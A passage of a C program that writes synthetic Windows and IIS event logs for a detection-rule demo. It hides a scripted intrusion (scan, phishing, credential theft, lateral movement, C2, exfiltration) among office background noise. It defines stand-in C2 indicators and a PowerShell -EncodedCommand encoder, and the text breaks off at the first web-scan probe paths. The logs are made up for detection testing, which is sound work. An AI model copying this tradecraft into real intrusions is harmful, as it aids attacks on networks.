/*
 * gen_scenario.c - writes a deterministic, realistic test scenario as JSON
 * lines in the flat Windows shape of the OTRF recordings (Hostname,
 * Channel, EventID, Sysmon/Security fields, every value but EventID a
 * string), plus web server access records.
 *
 *   gen_scenario [--seed N] [--events N] [--hosts N]
 *                [--start 2026-11-02T08:00:00Z] [--truth FILE]
 *
 * Background activity of a small domain (ACME, acme.local) hides one
 * multi-stage intrusion: a scan of the web server, a phishing document on
 * WS03, execution, persistence, privilege escalation, defence impairment,
 * credential theft, discovery, Kerberoasting, password guessing, lateral
 * movement to WS07 and SRV-FILE01, collection, command and control,
 * exfiltration and impact.  Each attack step produces the events that the
 * project's rule pack (rules/pack) detects.  --truth writes the steps as
 * CSV: time,host,user,tactic,technique,rule_title,lines, where lines are
 * the 1-based output line numbers (';'-separated) of the step's events.
 *
 * Like real collectors, output is grouped in per-channel blocks of ten
 * minutes, so time jumps back by up to ten minutes at block boundaries.
 *
 * Used by deploy/demo.sh and tests/integration/demo_smoke.sh.  Since the
 * steps were written to be what the pack detects, the scenario shows the
 * demo working; it is no evidence of detection quality.  Single threaded;
 * same seed and options give byte-identical output.
 */
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define MIN_MS (60 * 1000LL)
#define BLOCK_MS (10 * MIN_MS)
#define DAY_SPAN_MS (8 * 60 * MIN_MS)

enum channel { CH_SYSMON, CH_SECURITY, CH_SYSTEM, CH_WEB };

struct event {
    int64_t time_ms;
    enum channel chan;
    size_t seq;
    int step; /* index into steps, -1 for background */
    char *line;
};

struct step {
    int64_t time_ms;
    const char *host;
    const char *user;
    const char *tactic;
    const char *technique;
    const char *rule_title;
    int share; /* another step whose events also raise this one, or -1 */
};

struct buf {
    char *p;
    size_t len, cap;
};

struct host {
    char name[64]; /* FQDN */
    char ip[32];
    char guid_prefix[9];
    const char *user; /* primary user, NULL for servers */
};

static struct event *events;
static size_t n_events, cap_events;
static struct step steps[64];
static int n_steps;
static int current_step = -1;
static struct buf line;
static uint64_t rng_state;

static const char *const users[] = {
    "jdoe",   "asmith",   "bchen",    "mgarcia",  "lnguyen",
    "pkumar", "rjohnson", "tmueller", "kwilson",  "ebrown",
    "dlee",   "sokafor",  "vrossi",   "hnakamura"};
#define N_USERS (sizeof users / sizeof users[0])
#define ADMIN_USER "adm.kowalski"
#define C2_IP "45.77.13.201"
#define C2_NAME "cdn-update.duckdns.org"
#define SCANNER_IP "185.220.101.47"

static void die(const char *msg) {
    fprintf(stderr, "gen_scenario: %s\n", msg);
    exit(1);
}

/* splitmix64: tiny, well distributed, and the same on every platform. */
static uint64_t rnd(void) {
    uint64_t z = (rng_state += 0x9E3779B97F4A7C15ULL);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
}

static unsigned rnd_below(unsigned n) {
    return (unsigned)(rnd() % n);
}

static const char *pick(const char *const *list, size_t n) {
    return list[rnd_below((unsigned)n)];
}
#define PICK(list) pick(list, sizeof list / sizeof list[0])

static void buf_reserve(struct buf *b, size_t extra) {
    if (b->len + extra + 1 <= b->cap) return;
    size_t cap = b->cap ? b->cap : 1024;
    while (cap < b->len + extra + 1) cap *= 2;
    char *p = realloc(b->p, cap);
    if (!p) die("out of memory");
    b->p = p;
    b->cap = cap;
}

static void buf_add(struct buf *b, const char *s, size_t n) {
    buf_reserve(b, n);
    memcpy(b->p + b->len, s, n);
    b->len += n;
    b->p[b->len] = '\0';
}

static void buf_adds(struct buf *b, const char *s) {
    buf_add(b, s, strlen(s));
}

static void buf_json_string(struct buf *b, const char *s) {
    buf_adds(b, "\"");
    for (; *s; s++) {
        unsigned char c = (unsigned char)*s;
        char esc[8];
        if (c == '"' || c == '\\') {
            esc[0] = '\\';
            esc[1] = (char)c;
            buf_add(b, esc, 2);
        } else if (c < 0x20) {
            snprintf(esc, sizeof esc, "\\u%04x", c);
            buf_adds(b, esc);
        } else {
            buf_add(b, (const char *)&c, 1);
        }
    }
    buf_adds(b, "\"");
}

static void format_time(int64_t ms, char *out, size_t size, char sep,
                        int zulu) {
    time_t secs = (time_t)(ms / 1000);
    struct tm tm;
    gmtime_r(&secs, &tm);
    snprintf(out, size, "%04d-%02d-%02d%c%02d:%02d:%02d.%03d%s",
             tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, sep, tm.tm_hour,
             tm.tm_min, tm.tm_sec, (int)(ms % 1000), zulu ? "Z" : "");
}

/* Starts an event record; fields follow with field(), end with emit(). */
static void begin(int64_t ms, const char *source, const char *channel,
                  const char *host, int event_id) {
    char ts[80], num[16];
    line.len = 0;
    buf_adds(&line, "{\"SourceName\":");
    buf_json_string(&line, source);
    if (channel) {
        buf_adds(&line, ",\"Channel\":");
        buf_json_string(&line, channel);
    }
    buf_adds(&line, ",\"Hostname\":");
    buf_json_string(&line, host);
    format_time(ms, ts, sizeof ts, 'T', 1);
    buf_adds(&line, ",\"TimeCreated\":");
    buf_json_string(&line, ts);
    buf_adds(&line, ",\"@timestamp\":");
    buf_json_string(&line, ts);
    if (event_id > 0) {
        snprintf(num, sizeof num, "%d", event_id);
        buf_adds(&line, ",\"EventID\":");
        buf_adds(&line, num);
    }
}

static void field(const char *key, const char *value) {
    buf_adds(&line, ",");
    buf_json_string(&line, key);
    buf_adds(&line, ":");
    buf_json_string(&line, value);
}

static void fieldf(const char *key, const char *fmt, ...)
    __attribute__((format(printf, 2, 3)));
static void fieldf(const char *key, const char *fmt, ...) {
    char tmp[2048];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    field(key, tmp);
}

static void emit(int64_t ms, enum channel chan) {
    buf_adds(&line, "}");
    if (n_events == cap_events) {
        cap_events = cap_events ? cap_events * 2 : 4096;
        struct event *ne = realloc(events, cap_events * sizeof *ne);
        if (!ne) die("out of memory");
        events = ne;
    }
    char *copy = malloc(line.len + 1);
    if (!copy) die("out of memory");
    memcpy(copy, line.p, line.len + 1);
    events[n_events] = (struct event){ms, chan, n_events, current_step, copy};
    n_events++;
}

static int add_step(int64_t ms, const char *host, const char *user,
                    const char *tactic, const char *technique,
                    const char *rule_title) {
    if (n_steps == (int)(sizeof steps / sizeof steps[0])) die("too many steps");
    steps[n_steps] =
        (struct step){ms, host, user, tactic, technique, rule_title, -1};
    current_step = n_steps++;
    return current_step;
}

/* ------------------------------------------------------------------ */
/* Entities                                                             */

static struct host *hosts;
static int n_hosts;
static unsigned next_pid = 1000;

static void new_guid(const struct host *h, char *out, size_t size) {
    uint64_t r = rnd();
    snprintf(out, size, "{%s-%04x-%04x-%04x-%012llx}", h->guid_prefix,
             (unsigned)(r & 0xffff), (unsigned)((r >> 16) & 0xffff),
             (unsigned)((r >> 32) & 0xffff),
             (unsigned long long)(rnd() & 0xffffffffffffULL));
}

static unsigned new_pid(void) {
    next_pid += 4 + rnd_below(400);
    if (next_pid > 60000) next_pid = 1000 + rnd_below(1000);
    return next_pid;
}

/* Stable fake hashes per image path, so one binary always hashes alike. */
static void hashes_for(const char *image, char *out, size_t size) {
    uint64_t saved = rng_state, h = 1469598103934665603ULL;
    for (const char *p = image; *p; p++)
        h = (h ^ (unsigned char)*p) * 1099511628211ULL;
    rng_state = h;
    uint64_t a = rnd(), b = rnd(), c = rnd(), d = rnd(), e = rnd();
    snprintf(out, size,
             "SHA1=%016llX%016llX%08X,MD5=%016llX%016llX,"
             "SHA256=%016llX%016llX%016llX%016llX,IMPHASH=%016llX%016llX",
             (unsigned long long)a, (unsigned long long)b, (unsigned)c,
             (unsigned long long)c, (unsigned long long)d,
             (unsigned long long)a, (unsigned long long)b,
             (unsigned long long)d, (unsigned long long)e,
             (unsigned long long)e, (unsigned long long)b);
    rng_state = saved;
}

/* Copies `tmpl` with each "%s" replaced by `user`; the templates are
 * data, so they are not handed to printf. */
static void subst_user(char *out, size_t size, const char *tmpl,
                       const char *user) {
    size_t o = 0, ulen = strlen(user);
    for (const char *t = tmpl; *t && o + 1 < size; t++) {
        if (t[0] == '%' && t[1] == 's' && o + ulen + 1 < size) {
            memcpy(out + o, user, ulen);
            o += ulen;
            t++;
        } else {
            out[o++] = *t;
        }
    }
    out[o] = '\0';
}

static const char *basename_of(const char *path) {
    const char *s = strrchr(path, '\\');
    return s ? s + 1 : path;
}

struct proc {
    char guid[48];
    unsigned pid;
    char image[260];
    char cmdline[1024];
    char user[64];
    char logon_id[24];
    const struct host *host;
};

static void proc_init(struct proc *p, const struct host *h, const char *image,
                      const char *user, const char *logon_id) {
    new_guid(h, p->guid, sizeof p->guid);
    p->pid = new_pid();
    snprintf(p->image, sizeof p->image, "%s", image);
    snprintf(p->cmdline, sizeof p->cmdline, "\"%s\"", image);
    snprintf(p->user, sizeof p->user, "%s", user);
    snprintf(p->logon_id, sizeof p->logon_id, "%s", logon_id);
    p->host = h;
}

static void sysmon_begin(int64_t ms, const struct host *h, int id) {
    char ut[80];
    begin(ms, "Microsoft-Windows-Sysmon",
          "Microsoft-Windows-Sysmon/Operational", h->name, id);
    fieldf("Task", "%d", id);
    field("RuleName", "-");
    format_time(ms - 40 - rnd_below(80), ut, sizeof ut, ' ', 0);
    field("UtcTime", ut);
}

/* Sysmon 1; fills `child` (new GUID/PID) from image and command line. */
static void proc_create(int64_t ms, const struct proc *parent,
                        struct proc *child, const char *image,
                        const char *cmdline, const char *integrity) {
    char hashes[256];
    const struct host *h = parent->host;
    proc_init(child, h, image, parent->user, parent->logon_id);
    snprintf(child->cmdline, sizeof child->cmdline, "%s", cmdline);
    sysmon_begin(ms, h, 1);
    field("ProcessGuid", child->guid);
    fieldf("ProcessId", "%u", child->pid);
    field("Image", image);
    field("OriginalFileName", basename_of(image));
    field("CommandLine", cmdline);
    field("CurrentDirectory", "C:\\Windows\\system32\\");
    field("User", child->user);
    field("LogonId", child->logon_id);
    field("TerminalSessionId", strstr(child->user, "AUTHORITY") ? "0" : "1");
    field("IntegrityLevel", integrity);
    hashes_for(image, hashes, sizeof hashes);
    field("Hashes", hashes);
    field("ParentProcessGuid", parent->guid);
    fieldf("ParentProcessId", "%u", parent->pid);
    field("ParentImage", parent->image);
    field("ParentCommandLine", parent->cmdline);
    field("ParentUser", parent->user);
    emit(ms, CH_SYSMON);
}

static void net_connect(int64_t ms, const struct proc *p, const char *dst_ip,
                        unsigned port, const char *dst_name) {
    sysmon_begin(ms, p->host, 3);
    field("ProcessGuid", p->guid);
    fieldf("ProcessId", "%u", p->pid);
    field("Image", p->image);
    field("User", p->user);
    field("Protocol", "tcp");
    field("Initiated", "true");
    field("SourceIsIpv6", "false");
    field("SourceIp", p->host->ip);
    field("SourceHostname", p->host->name);
    fieldf("SourcePort", "%u", 49152 + rnd_below(16000));
    field("DestinationIsIpv6", "false");
    field("DestinationIp", dst_ip);
    field("DestinationHostname", dst_name ? dst_name : "-");
    fieldf("DestinationPort", "%u", port);
    emit(ms, CH_SYSMON);
}

static void file_create(int64_t ms, const struct proc *p, const char *path) {
    char ct[80];
    sysmon_begin(ms, p->host, 11);
    field("ProcessGuid", p->guid);
    fieldf("ProcessId", "%u", p->pid);
    field("Image", p->image);
    field("TargetFilename", path);
    format_time(ms, ct, sizeof ct, ' ', 0);
    field("CreationUtcTime", ct);
    field("User", p->user);
    emit(ms, CH_SYSMON);
}

static void reg_set(int64_t ms, const struct proc *p, const char *key,
                    const char *details) {
    sysmon_begin(ms, p->host, 13);
    field("EventType", "SetValue");
    field("ProcessGuid", p->guid);
    fieldf("ProcessId", "%u", p->pid);
    field("Image", p->image);
    field("TargetObject", key);
    field("Details", details);
    field("User", p->user);
    emit(ms, CH_SYSMON);
}

static void proc_access(int64_t ms, const struct proc *src,
                        const struct proc *target, const char *access) {
    sysmon_begin(ms, src->host, 10);
    field("SourceProcessGUID", src->guid);
    fieldf("SourceProcessId", "%u", src->pid);
    fieldf("SourceThreadId", "%u", 1000 + rnd_below(9000));
    field("SourceImage", src->image);
    field("TargetProcessGUID", target->guid);
    fieldf("TargetProcessId", "%u", target->pid);
    field("TargetImage", target->image);
    field("GrantedAccess", access);
    field("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|"
                       "C:\\Windows\\System32\\KERNELBASE.dll+2c13e");
    field("SourceUser", src->user);
    field("TargetUser", target->user);
    emit(ms, CH_SYSMON);
}

static void dns_query(int64_t ms, const struct proc *p, const char *name,
                      const char *result) {
    sysmon_begin(ms, p->host, 22);
    field("ProcessGuid", p->guid);
    fieldf("ProcessId", "%u", p->pid);
    field("QueryName", name);
    field("QueryStatus", "0");
    fieldf("QueryResults", "::ffff:%s;", result);
    field("Image", p->image);
    field("User", p->user);
    emit(ms, CH_SYSMON);
}

static void security_begin(int64_t ms, const struct host *h, int id) {
    begin(ms, "Microsoft-Windows-Security-Auditing", "Security", h->name, id);
    fieldf("Task", "%d", id == 4625 || id == 4624 ? 12544 : 14337);
}

static void logon(int64_t ms, const struct host *h, int ok, const char *user,
                  int type, const char *src_ip, const char *workstation,
                  const char *logon_id) {
    security_begin(ms, h, ok ? 4624 : 4625);
    field("SubjectUserSid", "S-1-5-18");
    fieldf("SubjectUserName", "%.*s$", (int)strcspn(h->name, "."), h->name);
    field("SubjectDomainName", "ACME");
    field("SubjectLogonId", "0x3e7");
    fieldf("TargetUserSid", "S-1-5-21-3623811015-3361044348-30300820-%u",
           ok ? 1100 + (unsigned)strlen(user) * 7 : 0);
    field("TargetUserName", user);
    field("TargetDomainName", "ACME");
    if (ok) field("TargetLogonId", logon_id);
    fieldf("LogonType", "%d", type);
    field("LogonProcessName", type == 3 ? "NtLmSsp " : "User32 ");
    field("AuthenticationPackageName", type == 3 ? "NTLM" : "Negotiate");
    field("WorkstationName", workstation);
    field("IpAddress", src_ip);
    fieldf("IpPort", "%u", 49152 + rnd_below(16000));
    if (!ok) {
        field("Status", "0xc000006d");
        field("SubStatus", "0xc000006a");
        field("FailureReason", "%%2313");
    }
    emit(ms, CH_SECURITY);
}

static void service_installed(int64_t ms, const struct host *h,
                              const char *name, const char *path) {
    begin(ms, "Service Control Manager", "System", h->name, 7045);
    field("ServiceName", name);
    field("ImagePath", path);
    field("ServiceType", "user mode service");
    field("StartType", "demand start");
    field("AccountName", "LocalSystem");
    emit(ms, CH_SYSTEM);
}

static void tgs_request(int64_t ms, const struct host *dc, const char *user,
                        const char *service, const char *enc,
                        const char *src_ip) {
    security_begin(ms, dc, 4769);
    fieldf("TargetUserName", "%s@ACME.LOCAL", user);
    field("TargetDomainName", "ACME.LOCAL");
    field("ServiceName", service);
    field("TicketOptions", "0x40810000");
    field("TicketEncryptionType", enc);
    fieldf("IpAddress", "::ffff:%s", src_ip);
    field("Status", "0x0");
    emit(ms, CH_SECURITY);
}

static void web_request(int64_t ms, const struct host *web, const char *client,
                        const char *method, const char *uri, const char *query,
                        int status, const char *agent) {
    char date[80];
    begin(ms, "IIS", NULL, web->name, 0);
    format_time(ms, date, sizeof date, ' ', 0);
    date[19] = '\0';
    field("date", date);
    field("s-ip", web->ip);
    field("cs-method", method);
    field("cs-uri-stem", uri);
    field("cs-uri-query", query);
    field("c-ip", client);
    field("cs-user-agent", agent);
    fieldf("sc-status", "%d", status);
    emit(ms, CH_WEB);
}

/* UTF-16LE then base64, as powershell -EncodedCommand expects. */
static void encode_ps(const char *script, char *out, size_t size) {
    static const char tbl[] =
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char wide[1024];
    size_t n = 0, o = 0;
    for (const char *s = script; *s && n + 2 <= sizeof wide; s++) {
        wide[n++] = (unsigned char)*s;
        wide[n++] = 0;
    }
    for (size_t i = 0; i < n && o + 5 < size; i += 3) {
        unsigned v = (unsigned)wide[i] << 16;
        if (i + 1 < n) v |= (unsigned)wide[i + 1] << 8;
        if (i + 2 < n) v |= wide[i + 2];
        out[o++] = tbl[(v >> 18) & 63];
        out[o++] = tbl[(v >> 12) & 63];
        out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=';
        out[o++] = i + 2 < n ? tbl[v & 63] : '=';
    }
    out[o] = '\0';
}

/* ------------------------------------------------------------------ */
/* Hosts and per-host long-lived processes                              */

enum { H_DC, H_FILE, H_WEB, H_JUMP, H_FIRST_WS };
#define WS(n) (&hosts[H_FIRST_WS + (n)-1])

static void make_hosts(int count) {
    n_hosts = count;
    hosts = calloc((size_t)count, sizeof *hosts);
    if (!hosts) die("out of memory");
    for (int i = 0; i < count; i++) {
        struct host *h = &hosts[i];
        if (i == H_DC) {
            snprintf(h->name, sizeof h->name, "DC01.acme.local");
            snprintf(h->ip, sizeof h->ip, "10.10.2.10");
        } else if (i == H_FILE) {
            snprintf(h->name, sizeof h->name, "SRV-FILE01.acme.local");
            snprintf(h->ip, sizeof h->ip, "10.10.2.20");
        } else if (i == H_WEB) {
            snprintf(h->name, sizeof h->name, "WEB01.acme.local");
            snprintf(h->ip, sizeof h->ip, "10.10.3.5");
        } else if (i == H_JUMP) {
            snprintf(h->name, sizeof h->name, "JUMP01.acme.local");
            snprintf(h->ip, sizeof h->ip, "10.10.5.10");
            h->user = ADMIN_USER;
        } else {
            int n = i - H_FIRST_WS + 1;
            snprintf(h->name, sizeof h->name, "WS%02d.acme.local", n);
            snprintf(h->ip, sizeof h->ip, "10.10.1.%d", 100 + n);
            h->user = users[(size_t)(n - 1) % N_USERS];
        }
        snprintf(h->guid_prefix, sizeof h->guid_prefix, "%08x",
                 (unsigned)(0x81050000u + (unsigned)i * 0x1f3u));
    }
}

static void user_session(const struct host *h, const char *user,
                         struct proc *explorer) {
    char u[64], lid[24];
    snprintf(u, sizeof u, "ACME\\%s", user);
    snprintf(lid, sizeof lid, "0x%llx",
             (unsigned long long)(0x60000 + (rnd() & 0xfffff)));
    proc_init(explorer, h, "C:\\Windows\\explorer.exe", u, lid);
    snprintf(explorer->cmdline, sizeof explorer->cmdline,
             "C:\\Windows\\Explorer.EXE");
}

static void system_proc(const struct host *h, struct proc *p,
                        const char *image) {
    proc_init(p, h, image, "NT AUTHORITY\\SYSTEM", "0x3e7");
}

/* ------------------------------------------------------------------ */
/* Background                                                           */

static const char *const external_ips[] = {
    "13.107.42.14", "52.96.164.18", "142.250.185.78", "151.101.1.140",
    "104.18.32.47", "20.190.151.7", "2.16.186.10"};
static const char *const web_agents[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
static const char *const web_paths[] = {
    "/",       "/products",        "/contact",
    "/login",  "/static/site.css", "/api/v1/status",
    "/careers"};

static void background_one(int64_t ms) {
    /* Workstations carry most of the activity, as in a real office. */
    int hi = rnd_below(10) < 7
                 ? H_FIRST_WS + (int)rnd_below((unsigned)(n_hosts - H_FIRST_WS))
                 : (int)rnd_below((unsigned)n_hosts);
    const struct host *h = &hosts[hi];
    const char *user = h->user ? h->user : ADMIN_USER;
    struct proc ex, p, c, sys;
    char path[512], cmd[1024];
    unsigned kind = rnd_below(100);

    user_session(h, user, &ex);
    system_proc(h, &sys, "C:\\Windows\\System32\\svchost.exe");
    snprintf(sys.cmdline, sizeof sys.cmdline,
             "C:\\Windows\\system32\\svchost.exe -k netsvcs -p");

    if (hi == H_WEB && kind < 60) {
        char client[32];
        snprintf(client, sizeof client, "%u.%u.%u.%u", 30 + rnd_below(180),
                 rnd_below(256), rnd_below(256), 1 + rnd_below(254));
        /* The internal vulnerability scanner is a benign look-alike of
         * the attacker's scan (filtered by address). */
        if (rnd_below(40) == 0)
            web_request(ms, h, "10.10.5.20", "GET", "/", "-", 200,
                        "Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                        "https://nmap.org/book/nse.html)");
        else
            web_request(ms, h, client, "GET", PICK(web_paths), "-",
                        rnd_below(20) ? 200 : 404, PICK(web_agents));
        return;
    }
    if (kind < 30) {
        static const char *const apps[] = {
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
            "C:\\Windows\\System32\\notepad.exe",
            "C:\\Program Files\\7-Zip\\7zFM.exe",
            "C:\\Windows\\System32\\mspaint.exe",
            "C:\\Users\\Public\\Desktop\\..\\..\\..\\Program "
            "Files\\Zoom\\bin\\Zoom.exe"};
        const char *app = PICK(apps);
        if (strstr(app, "Zoom")) app = "C:\\Program Files\\Zoom\\bin\\Zoom.exe";
        snprintf(cmd, sizeof cmd, "\"%s\"", app);
        proc_create(ms, &ex, &p, app, cmd, "Medium");
    } else if (kind < 32) {
        /* Administrators and scripts: benign look-alikes of discovery,
         * PowerShell and archiving. */
        static const char *const admin[][2] = {
            {"C:\\Windows\\System32\\whoami.exe", "whoami"},
            {"C:\\Windows\\System32\\ipconfig.exe", "ipconfig /all"},
            {"C:\\Windows\\System32\\ipconfig.exe", "ipconfig /flushdns"},
            {"C:\\Windows\\System32\\net.exe", "net use"},
            {"C:\\Windows\\System32\\net.exe",
             "net group \"Domain Users\" /domain"},
            {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
             "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
             "\"C:\\Program Files\\Acme\\inventory.ps1\""},
            {"C:\\Windows\\System32\\certutil.exe",
             "certutil -hashfile C:\\Users\\Public\\Downloads\\setup.msi "
             "SHA256"},
            {"C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo LIST"},
            {"C:\\Program Files\\7-Zip\\7z.exe",
             "7z.exe a C:\\Users\\Public\\Documents\\report.zip "
             "C:\\Users\\Public\\Documents\\report.docx"},
            {"C:\\Windows\\System32\\tasklist.exe", "tasklist"}};
        size_t k = rnd_below(sizeof admin / sizeof admin[0]);
        struct proc shell;
        proc_create(ms, &ex, &shell, "C:\\Windows\\System32\\cmd.exe",
                    "\"C:\\Windows\\system32\\cmd.exe\"", "Medium");
        proc_create(ms + 1500 + rnd_below(20000), &shell, &c, admin[k][0],
                    admin[k][1], "Medium");
    } else if (kind < 48) {
        static const char *const sysbins[][2] = {
            {"C:\\Windows\\System32\\svchost.exe",
             "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s "
             "WdiServiceHost"},
            {"C:\\Windows\\System32\\backgroundTaskHost.exe",
             "\"backgroundTaskHost.exe\" "
             "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"},
            {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"},
            {"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
             "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"},
            {"C:\\Windows\\System32\\rundll32.exe",
             "C:\\Windows\\system32\\rundll32.exe "
             "C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask"}};
        size_t k = rnd_below(sizeof sysbins / sizeof sysbins[0]);
        proc_create(ms, &sys, &p, sysbins[k][0], sysbins[k][1], "System");
    } else if (kind < 62) {
        static const char *const netapps[] = {
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
            "C:\\Program Files\\Zoom\\bin\\Zoom.exe"};
        proc_init(&p, h, PICK(netapps), ex.user, ex.logon_id);
        if (rnd_below(6) == 0) {
            /* PowerShell to an internal server: private, so not C2. */
            proc_init(&p, h,
                      "C:\\Windows\\System32\\WindowsPowerShell\\v1."
                      "0\\powershell.exe",
                      ex.user, ex.logon_id);
            net_connect(ms, &p, hosts[H_FILE].ip, 445, hosts[H_FILE].name);
        } else {
            net_connect(ms, &p, PICK(external_ips), 443, NULL);
        }
    } else if (kind < 68) {
        static const char *const names[] = {
            "outlook.office365.com",     "www.google.com",
            "login.microsoftonline.com", "dc01.acme.local",
            "teams.microsoft.com",       "github.com"};
        dns_query(ms, &sys, PICK(names), PICK(external_ips));
    } else if (kind < 78) {
        const char *lt = rnd_below(3) ? "3" : "2";
        char lid[24];
        snprintf(lid, sizeof lid, "0x%llx",
                 (unsigned long long)(0x100000 + (rnd() & 0xfffff)));
        if (hi != H_JUMP && rnd_below(8) == 0) {
            /* Administrators RDP in from the jump host: allowed. */
            logon(ms, h, 1, ADMIN_USER, 10, hosts[H_JUMP].ip, "JUMP01", lid);
        } else if (rnd_below(25) == 0) {
            /* A mistyped password, maybe twice. */
            logon(ms, h, 0, user, atoi(lt),
                  WS(1 + (int)rnd_below((unsigned)(n_hosts - H_FIRST_WS)))->ip,
                  "-", "0x0");
            if (rnd_below(2))
                logon(ms + 4000, h, 0, user, atoi(lt), h->ip, "-", "0x0");
        } else {
            logon(ms, h, 1, user, atoi(lt),
                  WS(1 + (int)rnd_below((unsigned)(n_hosts - H_FIRST_WS)))->ip,
                  "-", lid);
        }
    } else if (kind < 86) {
        static const char *const keys[][2] = {
            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
             "1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriv"
             "e",
             "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive."
             "exe\" /background"},
            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
             "1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com."
             "squirrel.Teams.Teams",
             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\Update.exe "
             "--processStart \"Teams.exe\""},
            {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Security"
             "Health",
             "%windir%\\system32\\SecurityHealthSystray.exe"},
            {"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettin"
             "gs\\S-1-5-21-3623811015-3361044348-30300820-"
             "1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
             "Binary Data"},
            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
             "1104\\Software\\Microsoft\\Office\\16."
             "0\\Word\\Options\\LastUIVersion",
             "DWORD (0x00000010)"}};
        size_t k = rnd_below(sizeof keys / sizeof keys[0]);
        char details[512];
        subst_user(details, sizeof details, keys[k][1], user);
        proc_init(&p, h,
                  k < 2 ? "C:\\Windows\\explorer.exe"
                        : "C:\\Windows\\system32\\svchost.exe",
                  ex.user, ex.logon_id);
        reg_set(ms, &p, keys[k][0], details);
    } else if (kind < 94) {
        static const char *const files[] = {
            "C:\\Users\\%s\\Documents\\Q4 budget.xlsx",
            "C:\\Users\\%"
            "s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
            "Outlook\\7QK2M1ZB\\agenda.pdf",
            "C:\\Users\\%"
            "s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
            "Outlook\\7QK2M1ZB\\minutes.docx",
            "C:\\Users\\%s\\Downloads\\ZoomInstaller.exe",
            "C:\\Users\\%s\\AppData\\Local\\Temp\\~DF3A21.tmp",
            "C:\\Users\\%s\\Documents\\README.txt"};
        subst_user(path, sizeof path, PICK(files), user);
        proc_init(&p, h,
                  strstr(path, "Outlook")
                      ? "C:\\Program Files\\Microsoft "
                        "Office\\root\\Office16\\OUTLOOK.EXE"
                      : "C:\\Windows\\explorer.exe",
                  ex.user, ex.logon_id);
        file_create(ms, &p, path);
    } else if (kind < 97) {
        /* Defender and VirtualBox tools read LSASS legitimately. */
        struct proc lsass, av;
        system_proc(h, &lsass, "C:\\Windows\\system32\\lsass.exe");
        system_proc(h, &av,
                    rnd_below(2)
                        ? "C:\\ProgramData\\Microsoft\\Windows "
                          "Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
                        : "C:\\Windows\\System32\\VBoxService.exe");
        proc_access(ms, &av, &lsass, rnd_below(2) ? "0x1410" : "0x1000");
    } else if (kind < 98) {
        service_installed(
            ms, h, "AcmeBackupAgent",
            "\"C:\\Program Files\\Acme\\Backup\\agent.exe\" -service");
    } else {
        tgs_request(ms, &hosts[H_DC], user,
                    rnd_below(2) ? "SRV-FILE01$" : "svc_backup",
                    rnd_below(3) ? "0x12" : "0x17", h->ip);
        /* RC4 for a user service account would be Kerberoasting: only
         * machine accounts get RC4 in the background. */
        if (strstr(events[n_events - 1].line, "svc_backup") &&
            strstr(events[n_events - 1].line, "0x17")) {
            free(events[--n_events].line);
            tgs_request(ms, &hosts[H_DC], user, "svc_backup", "0x12", h->ip);
        }
    }
}

/* ------------------------------------------------------------------ */
/* The intrusion                                                        */

static void attack(int64_t t0) {
    const struct host *web = &hosts[H_WEB], *dc = &hosts[H_DC];
    const struct host *ws3 = WS(3), *ws7 = WS(7), *srv = &hosts[H_FILE];
    const char *victim = ws3->user;
    static char victim_acct[64];
    struct proc ex, outlook, word, ps, implant, task_implant, shell, c, lsass,
        sys, wmi, ex7, shell7, srvshell;
    char cmd[1024], enc[800], path[512], key[512];
    int64_t t;

    snprintf(victim_acct, sizeof victim_acct, "ACME\\%s", victim);

    /* Reconnaissance: an external scan of the public web server. */
    t = t0 - 45 * MIN_MS;
    add_step(t, web->name, "-", "reconnaissance", "T1595.002",
             "Vulnerability Scanner User Agent Against Public Web Server");
    static const char *const probes[] = {"/.git/config",  "/admin",
